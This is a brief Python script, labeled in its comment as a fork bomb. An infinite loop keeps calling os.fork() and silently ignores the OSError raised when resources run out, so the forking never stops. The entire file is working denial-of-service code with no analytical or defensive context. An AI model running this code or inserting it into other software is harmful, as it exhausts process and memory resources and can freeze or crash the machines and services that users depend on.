# Python fork bomb: every process forks for ever (errors ignored so it keeps trying).
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
